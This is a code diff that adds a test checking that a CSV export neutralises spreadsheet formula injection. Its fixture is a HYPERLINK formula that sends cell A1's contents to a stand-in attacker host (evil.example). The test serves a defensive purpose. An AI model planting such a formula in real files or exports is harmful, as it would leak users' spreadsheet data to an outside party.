@@ -252,3 +252,11 @@ def test_openapi_security_matches_the_policy(db):
     assert public["/api/documents"]["post"]["security"] == [{"HTTPBearer": []}]
     private = client_for(ApiSettings(db=db, token=TOKEN, private=True)).get("/openapi.json").json()["paths"]
     assert private["/api/events"]["get"]["security"] == [{"HTTPBearer": []}]
+
+
+def test_an_exported_hyperlink_formula_is_inert(client):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
+    assert _patch(client, notes=formula, actor2="@SUM(A1:A2)").status_code == 200
+    exported = client.get("/api/export?format=acled-csv").text
+    assert "'=HYPERLINK(" in exported and "'@SUM(A1:A2)" in exported
+    assert ',"=HYPERLINK' not in exported and ",=HYPERLINK" not in exported
